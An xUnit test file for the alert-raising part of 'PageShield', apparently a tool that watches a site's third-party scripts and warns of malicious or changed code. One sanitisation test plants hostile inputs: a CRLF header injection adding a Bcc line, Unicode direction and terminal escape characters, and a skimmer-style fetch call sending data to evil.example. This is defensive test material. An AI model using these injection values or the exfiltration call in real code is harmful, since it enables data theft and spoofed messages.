using Microsoft.EntityFrameworkCore;
using Microsoft.EntityFrameworkCore.Storage;
using Microsoft.Extensions.Time.Testing;
using PageShield.Alerts;
using PageShield.Alerts.Raising;
using PageShield.Changes;
using PageShield.Crawls;
using PageShield.Detection;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using PageShield.Storage;

namespace PageShield.Tests.Alerts;

public sealed class AlertRaiserTests : IDisposable
{
    private readonly FakeTimeProvider _time = new(new DateTimeOffset(2026, 11, 22, 12, 0, 0, TimeSpan.Zero));
    private readonly AlertsDatabase _data;

    public AlertRaiserTests() => _data = new AlertsDatabase(_time);

    public void Dispose() => _data.Dispose();

    [Fact]
    public async Task A_new_third_party_host_is_told_to_every_channel_that_wants_it()
    {
        var all = _data.AddChannel("https://a.example/");
        var chosen = _data.AddChannel("https://b.example/", with: channel => channel.Events = [AlertEvents.NewThirdPartyHost]);
        _data.AddChannel("https://c.example/", with: channel => channel.Events = [AlertEvents.MaliciousScript]);
        _data.AddChannel("https://d.example/", with: channel => channel.IsEnabled = false);
        _data.AddChannel("https://e.example/", with: channel => channel.SiteId = _data.Site.Id + 1);

        var alert = await _data.RaiseAsync("tags.vendor.example");

        Assert.Equal(AlertEvents.NewThirdPartyHost, alert.Event);
        Assert.Equal("New company's code on Tea & Things: vendor[.]example", alert.Title);
        Assert.Contains("tags[.]vendor[.]example", alert.Body, StringComparison.Ordinal);
        Assert.Contains("new third-party script host", alert.Body, StringComparison.Ordinal);
        Assert.Equal([all.Id, chosen.Id], _data.Deliveries().Select(delivery => delivery.ChannelId));
    }

    [Fact]
    public async Task One_vendors_release_is_one_alert_however_many_scripts_it_touches()
    {
        var changes = Enumerable.Range(0, 40).Select(number =>
        {
            var url = $"https://cdn{number % 3}.vendor.example/{number}.js";
            return _data.NewChange(ChangeKind.ScriptChanged, number == 7 ? ChangeClass.Capability : ChangeClass.Code, url, _data.AddScript(url));
        }).ToList();

        var alerts = await RaiseAsync(_data.Crawl, changes);

        var alert = Assert.Single(alerts);
        Assert.Equal("vendor[.]example changed 40 scripts on Tea & Things", alert.Title);
        Assert.Equal(changes[7].Id, alert.ChangeId);
        Assert.Contains("class capability", alert.Body, StringComparison.Ordinal);
        Assert.Contains("and 30 more", alert.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pages_of_one_crawl_that_follow_complete_the_alert_instead_of_repeating_it()
    {
        _data.AddChannel("https://a.example/");
        var first = _data.NewChange(ChangeKind.ScriptChanged, ChangeClass.Code, "https://v.example/1.js", _data.AddScript("https://v.example/1.js"));
        var second =
            _data.NewChange(ChangeKind.ScriptChanged, ChangeClass.Capability, "https://v.example/2.js", _data.AddScript("https://v.example/2.js"));
        await RaiseAsync(_data.Crawl, [first]);

        var alert = Assert.Single(await RaiseAsync(_data.Crawl, [second]));

        Assert.Equal("v[.]example changed 2 scripts on Tea & Things", alert.Title);
        Assert.Equal(Severity.Medium, alert.Severity);
        Assert.Single(_data.Deliveries());
    }

    [Theory]
    [InlineData(ChangeClass.None)]
    [InlineData(ChangeClass.Cosmetic)]
    [InlineData(ChangeClass.Data)]
    public async Task A_shallow_change_is_no_alert(ChangeClass depth)
    {
        var script = _data.AddScript("https://v.example/1.js");

        Assert.Empty(await RaiseAsync(_data.Crawl, [_data.NewChange(ChangeKind.ScriptChanged, depth, script.Url, script)]));
    }

    [Fact]
    public async Task A_baseline_crawl_raises_nothing_but_what_is_malicious()
    {
        var baseline = _data.NewCrawl(isBaseline: true);
        var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious, crawl: baseline);
        var changes = new[] { _data.NewChange(ChangeKind.ScriptHostAdded, ChangeClass.Capability, "evil.example", crawl: baseline) };

        Assert.Empty(await RaiseAsync(baseline, changes));

        var alert = Assert.Single(await RaiseVerdictsAsync(script));
        Assert.Equal(AlertEvents.MaliciousScript, alert.Event);
        Assert.Equal(Severity.Critical, alert.Severity);
        Assert.Equal(baseline.Id, alert.CrawlId);
    }

    [Fact]
    public async Task A_malicious_script_is_told_once_with_its_evidence()
    {
        var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious);
        await AddJudgementAsync(
            """[{"title":"It reads the card number","weight":4.5},{"title":"It is on a list","weight":9},{"title":"It is signed","weight":-2}]""");

        await RaiseVerdictsAsync(script);
        _time.Advance(TimeSpan.FromDays(1));
        _data.NewCrawl();
        var alert = Assert.Single(await RaiseVerdictsAsync(script));

        Assert.Equal("Malicious script on Tea & Things: hxxps://evil[.]example/x.js", alert.Title);
        Assert.Matches("It is on a list\\.\\s+It reads the card number\\.", alert.Body);
        Assert.DoesNotContain("It is signed", alert.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_infection_that_was_gone_and_comes_back_is_told_again()
    {
        var script = _data.AddScript("https://cdn.example/x.js", VerdictKind.Malicious, source: "infected");
        await RaiseVerdictsAsync(script);
        _time.Advance(TimeSpan.FromHours(1));
        _data.AddVersion(script, "clean", _data.NewCrawl());
        _time.Advance(TimeSpan.FromHours(1));
        var back = _data.NewCrawl();
        _data.SeeVersion(script, "infected");

        var alerts = await RaiseVerdictsAsync(script);

        Assert.Equal([_data.Crawl.Id, back.Id], alerts.Select(alert => alert.CrawlId));
    }

    [Fact]
    public async Task An_attack_that_is_served_beside_honest_code_in_the_same_crawl_is_told_each_time_with_its_own_evidence()
    {
        var script = _data.AddScript("https://cdn.example/x.js", VerdictKind.Malicious, source: "honest");
        await AddJudgementAsync("[]", "honest", 99);
        foreach (var attack in (string[])["first attack", "second attack"])
        {
            _time.Advance(TimeSpan.FromHours(1));
            var crawl = _data.NewCrawl();
            _data.AddVersion(script, attack, crawl);
            await AddJudgementAsync($$"""[{"title":"Sends cards in the {{attack}}","weight":9}]""", attack, 2);
            _time.Advance(TimeSpan.FromSeconds(5));
            _data.SeeVersion(script, "honest");

            var alert = (await RaiseVerdictsAsync(script)).Last();

            Assert.Equal(crawl.Id, alert.CrawlId);
            Assert.Contains($"Sends cards in the {attack}", alert.Body, StringComparison.Ordinal);
            Assert.DoesNotContain("score 99", alert.Body, StringComparison.Ordinal);
        }

        Assert.Equal(2, (await RaiseVerdictsAsync(script)).Count);
    }

    [Fact]
    public async Task Two_that_tell_of_one_script_at_the_same_moment_tell_it_once()
    {
        var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious);

        await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => Task.Run(async () =>
        {
            await using var database = _data.CreateDbContext();
            await using var transaction = await database.Database.BeginTransactionAsync(TestContext.Current.CancellationToken);
            await new AlertRaiser(_time).RaiseForVerdictsAsync(database, _data.Site, [script], TestContext.Current.CancellationToken);
            await database.SaveChangesAsync(TestContext.Current.CancellationToken);
            await transaction.CommitAsync(TestContext.Current.CancellationToken);
        })));

        await using var after = _data.CreateDbContext();
        Assert.Single(after.Alerts);
    }

    [Fact]
    public async Task Broken_findings_in_the_database_do_not_keep_the_alert()
    {
        var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious);
        await AddJudgementAsync("{not json");

        Assert.Single(await RaiseVerdictsAsync(script));
    }

    [Fact]
    public async Task A_finding_and_a_verdict_about_one_vendor_in_one_crawl_are_one_alert()
    {
        var script = _data.AddScript("https://evil.example/x.js", VerdictKind.Malicious);
        await RaiseFindingsAsync(NewFinding(script, Severity.Critical));

        var alert = Assert.Single(await RaiseVerdictsAsync(script));

        Assert.StartsWith("Card number left the page", alert.Title, StringComparison.Ordinal);
        Assert.Contains("Also: Malicious script on Tea & Things", alert.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scripts_that_are_judged_one_after_the_other_are_all_in_the_alert_of_their_crawl()
    {
        await RaiseVerdictsAsync(_data.AddScript("https://v.example/1.js", VerdictKind.Suspicious, source: "one"));
        await RaiseVerdictsAsync(_data.AddScript("https://v.example/2.js", VerdictKind.Suspicious, source: "two"));

        var alert = Assert.Single(await RaiseVerdictsAsync(_data.AddScript("https://v.example/3.js", VerdictKind.Suspicious, source: "three")));

        Assert.EndsWith("v[.]example/1.js", alert.Title, StringComparison.Ordinal);
        Assert.All(["1.js", "2.js", "3.js"], name => Assert.Contains(name, alert.Body, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Only_new_and_serious_findings_are_told()
    {
        var script = _data.AddScript("https://evil.example/x.js");
        var old = NewFinding(script, Severity.Critical);
        old.LastSeenAt += TimeSpan.FromHours(1);

        Assert.Empty(await RaiseFindingsAsync(old, NewFinding(script, Severity.Medium)));
        Assert.Single(await RaiseFindingsAsync(NewFinding(script, Severity.High)));
    }

    [Fact]
    public async Task Hostile_text_in_names_and_evidence_stays_text()
    {
        _data.Site.Name = "Tea\r\nBcc: all@evil.example \u202E";
        var script = _data.AddScript("https://evil.example/\u202Egnp.js\u001b[31m", VerdictKind.Malicious);
        var finding = NewFinding(script, Severity.Critical);
        finding.Evidence = "fetch('https://evil.example/?c=' + \u001b]8;;http://evil.example\u0007)";

        await RaiseFindingsAsync(finding);
        await RaiseVerdictsAsync(script);

        await using var database = _data.CreateDbContext();
        foreach (var alert in await database.Alerts.ToListAsync(TestContext.Current.CancellationToken))
        {
            Assert.DoesNotContain(alert.Title, char.IsControl);
            Assert.DoesNotContain(alert.Body, character => char.IsControl(character) && character != '\n');
            Assert.DoesNotContain('\u202E', alert.Title + alert.Body);
            Assert.DoesNotContain("https://", alert.Title + alert.Body, StringComparison.Ordinal);
            Assert.DoesNotContain("evil.example", alert.Title + alert.Body, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Own_code_of_all_the_sites_hosts_is_one_vendor()
    {
        _data.Site.Hosts = ["shop.example", "shop-static.example"];
        var changes = new[] { "https://shop.example/a.js", "https://assets.shop-static.example/b.js" }
            .Select(url => _data.NewChange(ChangeKind.ScriptChanged, ChangeClass.Code, url, _data.AddScript(url))).ToList();

        var alert = Assert.Single(await RaiseAsync(_data.Crawl, changes));

        Assert.Equal("Your own code on Tea & Things changed: 2 scripts", alert.Title);
    }

    private async Task<List<Alert>> RaiseAsync(Crawl crawl, IReadOnlyList<Change> changes)
    {
        await using var database = _data.CreateDbContext();
        await using var transaction = await database.Database.BeginTransactionAsync(TestContext.Current.CancellationToken);
        database.Changes.AddRange(changes);
        await new AlertRaiser(_time).RaiseForChangesAsync(database, _data.Site, crawl, changes, TestContext.Current.CancellationToken);
        return await SavedAsync(database, transaction);
    }

    private async Task<List<Alert>> RaiseVerdictsAsync(params Script[] scripts)
    {
        await using var database = _data.CreateDbContext();
        await using var transaction = await database.Database.BeginTransactionAsync(TestContext.Current.CancellationToken);
        await new AlertRaiser(_time).RaiseForVerdictsAsync(database, _data.Site, scripts, TestContext.Current.CancellationToken);
        return await SavedAsync(database, transaction);
    }

    private async Task<List<Alert>> RaiseFindingsAsync(params SiteFinding[] findings)
    {
        await using var database = _data.CreateDbContext();
        await using var transaction = await database.Database.BeginTransactionAsync(TestContext.Current.CancellationToken);
        await new AlertRaiser(_time).RaiseForFindingsAsync(database, _data.Site, _data.Crawl, findings, TestContext.Current.CancellationToken);
        return await SavedAsync(database, transaction);
    }

    [Fact]
    public async Task The_scale_of_scores_is_said_once_where_the_first_one_stands()
    {
        var scripts = new[] { "https://one.example/x.js", "https://two.example/x.js" }.Select(url => _data.AddScript(url, VerdictKind.Malicious))
            .ToArray();
        await AddJudgementAsync("[]");

        var alerts = await RaiseVerdictsAsync(scripts);

        Assert.All(alerts, alert => Assert.Contains("score 2 (1 malicious – 99 clean).", alert.Body, StringComparison.Ordinal));
        Assert.All(alerts, alert => Assert.Equal(1, alert.Body.Split("99 clean").Length - 1));
    }

    private static async Task<List<Alert>> SavedAsync(PageShieldDbContext database, IDbContextTransaction transaction)
    {
        await database.SaveChangesAsync(TestContext.Current.CancellationToken);
        await transaction.CommitAsync(TestContext.Current.CancellationToken);
        return await database.Alerts.OrderBy(alert => alert.Id).ToListAsync(TestContext.Current.CancellationToken);
    }

    private async Task AddJudgementAsync(string findings, string source = "v1", int score = 2)
    {
        await using var database = _data.CreateDbContext();
        database.Judgements.Add(new Judgement
        {
            Sha256 = Sha256Hash.OfText(source),
            AnalyzerVersion = "1",
            Score = score,
            Verdict = score < 20 ? VerdictKind.Malicious : VerdictKind.Clean,
            Subscores = "{}",
            Findings = findings,
        });
        await database.SaveChangesAsync(TestContext.Current.CancellationToken);
    }

    private SiteFinding NewFinding(Script script, Severity severity) => new()
    {
        SiteId = _data.Site.Id,
        Id = RowId.Next(_time),
        Identity = Sha256Hash.OfText($"{script.Id}{severity}"),
        Rule = "canary-left",
        Severity = severity,
        Title = "Card number left the page",
        Evidence = "4242…",
        ScriptId = script.Id,
        FirstSeenAt = _time.GetUtcNow(),
        LastSeenAt = _time.GetUtcNow(),
    };
}
